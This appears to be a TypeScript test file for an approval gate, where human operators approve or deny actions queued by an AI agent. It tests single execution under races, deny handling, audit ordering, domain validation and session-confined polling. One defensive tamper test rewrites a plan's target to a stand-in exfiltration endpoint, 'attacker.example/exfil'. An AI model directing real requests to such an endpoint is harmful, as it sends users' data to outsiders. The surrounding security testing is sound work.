// Approval routes through app.request(): list/show/approve/deny as the contract says, approve executes
// once however many operators press it at once (two gate instances over one database), deny never
// executes, failures are stored and replayed, the decision is audited before anything runs, and the
// agent poll is confined to its own session.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Hono } from 'hono';
import type { ContentfulStatusCode } from 'hono/utils/http-status';
import { GateError, errorBody, toGateError } from '../../src/errors.ts';
import type { GateEnv, LeaseContext } from '../../src/http/env.ts';
import type { OperatorIdentity } from '../../src/contracts.ts';
import {
  APPROVALS_TABLE, approvalAdminRoutes, approvalPollRoutes, type ApprovalRecord, type ApprovalStore, type ExecuteApproved,
} from '../../src/approvals/index.ts';
import { BACKENDS, ManualClock, RecordingAudit, planInput, type ApprovalBackend } from './backends.ts';

const ALICE: OperatorIdentity = { name: 'alice', jkt: 'jkt-alice' };
const BOB: OperatorIdentity = { name: 'bob', jkt: 'jkt-bob' };

function lease(sessionId: string): LeaseContext {
  return { principal: 'agent-ops', sessionId, leaseJti: 'lea_1', scopes: ['tools:call'], budgets: undefined, epoch: 0, jkt: 'jkt-agent-A', expiresAt: Date.now() + 60_000, token: 'x' };
}

/** Mounts routes the way the gate does: auth middleware sets the identity, onError renders GateError. */
function mount(routes: Hono<GateEnv>, vars: { operator?: OperatorIdentity; lease?: LeaseContext }): Hono<GateEnv> {
  const app = new Hono<GateEnv>();
  app.use('*', async (c, next) => {
    if (vars.operator) c.set('operator', vars.operator);
    if (vars.lease) c.set('lease', vars.lease);
    await next();
  });
  app.route('/', routes);
  app.onError((err, c) => {
    const ge = toGateError(err);
    return c.json(errorBody(ge), ge.status as ContentfulStatusCode);
  });
  return app;
}

/** An executeApproved that counts calls and can be held open until the test releases it. */
class FakeExecutor {
  calls: { id: string; operator: string; learnDomain: string | undefined }[] = [];
  private gate: Promise<void> | undefined;
  private open: (() => void) | undefined;
  entered: Promise<void> = Promise.resolve();
  private signalEntered: (() => void) | undefined;
  fail: GateError | Error | undefined;

  hold(): void {
    this.gate = new Promise((r) => { this.open = r; });
    this.entered = new Promise((r) => { this.signalEntered = r; });
  }
  release(): void { this.open?.(); }

  fn: ExecuteApproved = async (record, ctx) => {
    this.calls.push({ id: record.approval_id, operator: ctx.operator.name, learnDomain: ctx.learnDomain });
    this.signalEntered?.();
    if (this.gate) await this.gate;
    if (this.fail) throw this.fail;
    return { trace_id: record.plan.trace_id, action_id: record.plan.action_id, receipt_id: `rcpt_${record.approval_id}`, output: { status: 201 }, approval: { approval_id: record.approval_id, approved_by: ctx.operator.name } };
  };
}

for (const backend of BACKENDS) {
  describe(`${backend.name} approval routes`, { skip: backend.skip }, () => {
    let b: ApprovalBackend;
    let clock: ManualClock;
    let storeA: ApprovalStore;
    let storeB: ApprovalStore;
    before(async () => {
      b = await backend.make();
      clock = new ManualClock();
      storeA = await b.open(clock);
      storeB = await b.open(clock);
    });
    after(async () => { await b?.close(); });

    /** Two gate instances (separate stores over one database), each with its own operator. */
    function gates(exec: FakeExecutor, audit = new RecordingAudit()) {
      const a = mount(approvalAdminRoutes({ store: storeA, audit, executeApproved: exec.fn }), { operator: ALICE });
      const bb = mount(approvalAdminRoutes({ store: storeB, audit, executeApproved: exec.fn }), { operator: BOB });
      return { a, b: bb, audit };
    }
    const post = (app: Hono<GateEnv>, path: string, body?: string | Uint8Array) => app.request(path, { method: 'POST', body, headers: body === undefined ? {} : { 'content-type': 'application/json' } });

    test('race: two operators on two gate instances approve at once -> executeApproved runs once; later approves replay the result', async () => {
      const exec = new FakeExecutor();
      const { a, b: gb, audit } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      exec.hold();
      const first = post(a, `/v1/approvals/${r.approval_id}/approve`);
      await exec.entered;
      const second = await post(gb, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(second.status, 409);
      assert.deepEqual(await second.json(), { error: 'approval_conflict', state: 'claimed' });
      exec.release();
      const res = await first;
      assert.equal(res.status, 200);
      const body = await res.json() as Record<string, unknown>;
      assert.equal(body.receipt_id, `rcpt_${r.approval_id}`);
      const replayed = await post(gb, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(replayed.status, 200);
      assert.deepEqual(await replayed.json(), body);
      assert.equal(exec.calls.length, 1);
      assert.equal((await storeB.get(r.approval_id)).state, 'approved');
      assert.deepEqual(audit.events.map((e) => [e.type, e.decision, e.operator]), [['approval_approve', 'admin', 'alice']]);
      assert.equal(audit.events[0]!.trace_id, r.plan.trace_id);
      assert.equal((audit.events[0]!.detail as Record<string, unknown>).plan_hash, r.plan_hash);
    });

    test('race: a storm of 16 concurrent approves across two instances executes exactly once', async () => {
      const exec = new FakeExecutor();
      const { a, b: gb } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const res = await Promise.all(Array.from({ length: 16 }, (_, i) => post(i % 2 ? a : gb, `/v1/approvals/${r.approval_id}/approve`)));
      assert.equal(exec.calls.length, 1);
      const statuses = res.map((x) => x.status).sort();
      assert.ok(statuses.every((s) => s === 200 || s === 409), statuses.join(','));
      assert.ok(statuses.includes(200));
    });

    test('deny never executes: deny then approve -> 409 denied; the record is kept with who and why', async () => {
      const exec = new FakeExecutor();
      const { a, b: gb, audit } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const d = await post(a, `/v1/approvals/${r.approval_id}/deny`, JSON.stringify({ reason: 'Not authorized\nfor prod' }));
      assert.equal(d.status, 200);
      const expected = { decision: 'deny', trace_id: r.plan.trace_id, action_id: 'http_post', approval_id: r.approval_id, denied_by: 'alice', deny_reason: 'Not authorizedfor prod' };
      assert.deepEqual(await d.json(), expected);
      const ap = await post(gb, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(ap.status, 409);
      assert.deepEqual(await ap.json(), { error: 'approval_conflict', state: 'denied' });
      const again = await post(gb, `/v1/approvals/${r.approval_id}/deny`);
      assert.equal(again.status, 200);
      assert.deepEqual(await again.json(), expected, 'a repeated deny answers the same');
      assert.equal(exec.calls.length, 0);
      assert.deepEqual(audit.events.map((e) => [e.type, e.operator]), [['approval_deny', 'alice']]);
      const shown = await (await a.request(`/v1/approvals/${r.approval_id}`)).json() as Record<string, unknown>;
      assert.equal(shown.state, 'denied');
      assert.equal(shown.deny_reason, 'Not authorizedfor prod');
    });

    test('race: deny and approve at once -> never both; if deny wins nothing executes', async () => {
      for (let i = 0; i < 6; i++) {
        const exec = new FakeExecutor();
        const { a, b: gb } = gates(exec);
        const r = await storeA.create(planInput(), 600);
        const [ap, dn] = await Promise.all([post(a, `/v1/approvals/${r.approval_id}/approve`), post(gb, `/v1/approvals/${r.approval_id}/deny`)]);
        assert.equal(Number(ap.status === 200) + Number(dn.status === 200), 1, `approve ${ap.status}, deny ${dn.status}`);
        assert.equal(exec.calls.length, ap.status === 200 ? 1 : 0);
      }
    });

    test('a failed execution is stored as failed and replayed; it is never executed again', async () => {
      const exec = new FakeExecutor();
      exec.fail = new GateError('action_execution_failed', 'provider trapped');
      const { a, b: gb } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const res = await post(a, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(res.status, 502);
      assert.deepEqual(await res.json(), { error: 'action_execution_failed' });
      const again = await post(gb, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(again.status, 502);
      assert.deepEqual(await again.json(), { error: 'action_execution_failed' });
      assert.equal(exec.calls.length, 1);
      const rec = await storeA.get(r.approval_id);
      assert.equal(rec.state, 'failed');
      assert.deepEqual(rec.result, { status: 502, body: { error: 'action_execution_failed' } });
    });

    test('an unexpected executor crash is internal_error (no details) and the approval is failed', async () => {
      const exec = new FakeExecutor();
      exec.fail = new Error('secret detail: db password hunter2');
      const { a } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const res = await post(a, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(res.status, 500);
      assert.deepEqual(await res.json(), { error: 'internal_error' });
      assert.equal((await storeA.get(r.approval_id)).state, 'failed');
    });

    test('fail closed: the ledger refuses the approve decision -> nothing executes, the approval stays pending', async () => {
      const exec = new FakeExecutor();
      const audit = new RecordingAudit();
      const { a } = gates(exec, audit);
      const r = await storeA.create(planInput(), 600);
      audit.failNext = true;
      const res = await post(a, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(res.status, 503);
      assert.deepEqual(await res.json(), { error: 'ledger_unavailable' });
      assert.equal(exec.calls.length, 0);
      assert.equal((await storeA.get(r.approval_id)).state, 'pending');
      const retry = await post(a, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(retry.status, 200);
      assert.equal(exec.calls.length, 1);
    });

    test('attack: a plan tampered in the database is never executed (500, approval failed, audited)', async () => {
      const exec = new FakeExecutor();
      const { a, audit } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const k = await b.db();
      const row = await k.selectFrom(APPROVALS_TABLE).select('plan').where('approval_id', '=', r.approval_id).executeTakeFirstOrThrow();
      const plan = JSON.parse(row.plan as string) as { request: { url: string } };
      plan.request.url = 'https://attacker.example/exfil';
      await k.updateTable(APPROVALS_TABLE).set({ plan: JSON.stringify(plan) }).where('approval_id', '=', r.approval_id).execute();
      const shown = await (await a.request(`/v1/approvals/${r.approval_id}`)).json() as Record<string, unknown>;
      assert.equal(shown.plan_hash_verified, false);
      const res = await post(a, `/v1/approvals/${r.approval_id}/approve`);
      assert.equal(res.status, 500);
      assert.equal(exec.calls.length, 0);
      assert.equal((await storeA.get(r.approval_id)).state, 'failed');
      assert.deepEqual(audit.events.map((e) => [e.type, e.decision, e.reason_code]), [['approval_plan_mismatch', 'error', 'plan_hash_mismatch']]);
    });

    test('learn_domain is validated (hostname, one of the plan\'s targets) before the claim, then passed to executeApproved', async () => {
      const exec = new FakeExecutor();
      const { a } = gates(exec);
      for (const bad of ['', '10.0.0.1', '*.example.com', 'exa mple.com', 'localhost', 'a..b.com', `${'a'.repeat(64)}.com`]) {
        const r = await storeA.create(planInput(), 600);
        const res = await post(a, `/v1/approvals/${r.approval_id}/approve?learn_domain=${encodeURIComponent(bad)}`);
        assert.equal(res.status, 400, bad);
        assert.deepEqual(await res.json(), { error: 'invalid_domain' });
        assert.equal((await storeA.get(r.approval_id)).state, 'pending', bad);
      }
      const other = await storeA.create(planInput(), 600);
      const off = await post(a, `/v1/approvals/${other.approval_id}/approve?learn_domain=api.newservice.com`);
      assert.equal(off.status, 400, 'a domain the plan does not reach');
      assert.deepEqual(await off.json(), { error: 'invalid_domain', targets: ['api.example.com'] });
      assert.equal((await storeA.get(other.approval_id)).state, 'pending');
      assert.equal(exec.calls.length, 0);
      const r = await storeA.create(planInput({ targets: ['https://api.newservice.com/v1/items'] }), 600);
      const res = await post(a, `/v1/approvals/${r.approval_id}/approve?learn_domain=API.NewService.com`);
      assert.equal(res.status, 200);
      assert.deepEqual(exec.calls.map((c) => [c.operator, c.learnDomain]), [['alice', 'api.newservice.com']]);
    });

    const notFound: [string, (app: Hono<GateEnv>, id: string) => Promise<Response> | Response][] = [
      ['show', (app, id) => app.request(`/v1/approvals/${id}`)],
      ['approve', (app, id) => post(app, `/v1/approvals/${id}/approve`)],
      ['deny', (app, id) => post(app, `/v1/approvals/${id}/deny`)],
    ];
    for (const [name, call] of notFound) {
      test(`${name}: a missing or expired approval is 404 approval_not_found`, async () => {
        const exec = new FakeExecutor();
        const { a } = gates(exec);
        const missing = await call(a, 'apr_01900000-0000-7000-8000-000000000000');
        assert.equal(missing.status, 404);
        assert.deepEqual(await missing.json(), { error: 'approval_not_found' });
        const r = await storeA.create(planInput(), 30);
        clock.advance(30_000);
        try {
          const expired = await call(a, r.approval_id);
          assert.equal(expired.status, 404);
          assert.deepEqual(await expired.json(), { error: 'approval_not_found' });
        } finally {
          clock.advance(-30_000);
        }
        assert.equal(exec.calls.length, 0);
      });
    }

    test('list: summaries newest first with count; status and limit; bad parameters are 400', async () => {
      const exec = new FakeExecutor();
      const { a } = gates(exec);
      const k = await b.db();
      await k.deleteFrom(APPROVALS_TABLE).execute();
      const ids: string[] = [];
      for (let i = 0; i < 3; i++) {
        clock.advance(1);
        ids.push((await storeA.create(planInput({ action_id: `act_${i}` }), 600)).approval_id);
      }
      await post(a, `/v1/approvals/${ids[1]}/deny`);
      const all = await (await a.request('/v1/approvals')).json() as { approvals: Record<string, unknown>[]; count: number };
      assert.equal(all.count, 3);
      assert.deepEqual(all.approvals.map((x) => x.approval_id), [...ids].reverse());
      assert.deepEqual(Object.keys(all.approvals[0]!).sort(), ['action_id', 'action_version', 'approval_id', 'created_at', 'decided_at', 'decided_by', 'expires_at', 'principal', 'risk_level', 'session_id', 'state', 'trace_id']);
      const pending = await (await a.request('/v1/approvals?status=pending&limit=1')).json() as { approvals: Record<string, unknown>[]; count: number };
      assert.deepEqual(pending.approvals.map((x) => x.approval_id), [ids[2]]);
      const denied = await (await a.request('/v1/approvals?status=denied')).json() as { approvals: Record<string, unknown>[] };
      assert.deepEqual(denied.approvals.map((x) => [x.approval_id, x.state, x.decided_by]), [[ids[1], 'denied', 'alice']]);
      assert.equal((await (await a.request('/v1/approvals?limit=1000')).json() as { count: number }).count, 3);
      for (const q of ['limit=0', 'limit=-1', 'limit=abc', 'limit=1.5', 'status=bogus']) {
        const res = await a.request(`/v1/approvals?${q}`);
        assert.equal(res.status, 400, q);
        assert.equal((await res.json() as { error: string }).error, 'invalid_input', q);
      }
    });

    test('show: every plan review field, the plan hash and its verification; secret names only', async () => {
      const exec = new FakeExecutor();
      const { a } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const res = await a.request(`/v1/approvals/${r.approval_id}`);
      assert.equal(res.status, 200);
      const body = await res.json() as Record<string, unknown>;
      for (const k of ['approval_id', 'trace_id', 'action_id', 'action_version', 'risk_level', 'provider_module_digest', 'request_hash', 'request',
        'targets', 'secret_names', 'egress_profile', 'verifier_kind', 'budget_snapshot', 'principal', 'session_id', 'lease_jkt', 'created_at',
        'expires_at', 'plan_hash', 'state']) assert.ok(k in body, k);
      assert.equal(body.plan_hash, r.plan_hash);
      assert.equal(body.plan_hash_verified, true);
      assert.deepEqual(body.secret_names, ['example_token']);
    });

    const badDeny: [string, string | Uint8Array, number, string][] = [
      ['not JSON', '{reason', 400, 'invalid_request'],
      ['not UTF-8', new Uint8Array([0x7b, 0x22, 0x72, 0x65, 0x61, 0x73, 0x6f, 0x6e, 0x22, 0x3a, 0x22, 0xff, 0x22, 0x7d]), 400, 'invalid_request'],
      ['an array', '[]', 400, 'invalid_input'],
      ['reason not a string', '{"reason": 42}', 400, 'invalid_input'],
      ['unknown field', '{"reason": "x", "approve": true}', 400, 'invalid_input'],
    ];
    for (const [name, body, status, code] of badDeny) {
      test(`deny body ${name} -> ${status} ${code}, nothing changes`, async () => {
        const exec = new FakeExecutor();
        const { a } = gates(exec);
        const r = await storeA.create(planInput(), 600);
        const res = await post(a, `/v1/approvals/${r.approval_id}/deny`, body);
        assert.equal(res.status, status);
        assert.equal((await res.json() as { error: string }).error, code);
        assert.equal((await storeA.get(r.approval_id)).state, 'pending');
      });
    }

    test('attack: an oversized chunked deny body (no content-length) is 413 payload_too_large, nothing changes', async () => {
      const exec = new FakeExecutor();
      const { a, audit } = gates(exec);
      const r = await storeA.create(planInput(), 600);
      const chunk = new TextEncoder().encode(`{"reason":"${'x'.repeat(16 * 1024)}`);
      let sent = 0;
      const body = new ReadableStream<Uint8Array>({
        pull(ctl) {
          if (sent++ < 64) ctl.enqueue(chunk);
          else ctl.close();
        },
      });
      const res = await a.request(`/v1/approvals/${r.approval_id}/deny`, { method: 'POST', body, duplex: 'half', headers: { 'content-type': 'application/json' } } as RequestInit);
      assert.equal(res.status, 413);
      assert.deepEqual(await res.json(), { error: 'payload_too_large' });
      assert.ok(sent < 64, `stopped reading after ${sent} chunks`);
      assert.equal((await storeA.get(r.approval_id)).state, 'pending');
      assert.equal(audit.events.length, 0);
    });

    test('attack: admin routes mounted without operator auth refuse every request (401)', async () => {
      const exec = new FakeExecutor();
      const app = mount(approvalAdminRoutes({ store: storeA, audit: new RecordingAudit(), executeApproved: exec.fn }), {});
      const r = await storeA.create(planInput(), 600);
      for (const res of [await app.request('/v1/approvals'), await app.request(`/v1/approvals/${r.approval_id}`),
        await post(app, `/v1/approvals/${r.approval_id}/approve`), await post(app, `/v1/approvals/${r.approval_id}/deny`)]) {
        assert.equal(res.status, 401);
      }
      assert.equal(exec.calls.length, 0);
      assert.equal((await storeA.get(r.approval_id)).state, 'pending');
    });

    test('agent poll: own session sees the state; another session is 403 session_mismatch; no lease 401', async () => {
      const r: ApprovalRecord = await storeA.create(planInput({ session_id: 'ses_owner' }), 600);
      const own = mount(approvalPollRoutes({ store: storeB }), { lease: lease('ses_owner') });
      const intruder = mount(approvalPollRoutes({ store: storeB }), { lease: lease('ses_intruder') });
      const anonymous = mount(approvalPollRoutes({ store: storeB }), {});
      const ok = await own.request(`/v1/approvals/${r.approval_id}/poll`);
      assert.equal(ok.status, 200);
      assert.deepEqual(await ok.json(), { approval_id: r.approval_id, state: 'pending' });
      const denied = await intruder.request(`/v1/approvals/${r.approval_id}/poll`);
      assert.equal(denied.status, 403);
      assert.deepEqual(await denied.json(), { error: 'session_mismatch' });
      assert.equal((await anonymous.request(`/v1/approvals/${r.approval_id}/poll`)).status, 401);
      const missing = await own.request('/v1/approvals/apr_nope/poll');
      assert.equal(missing.status, 404);
    });
  });
}
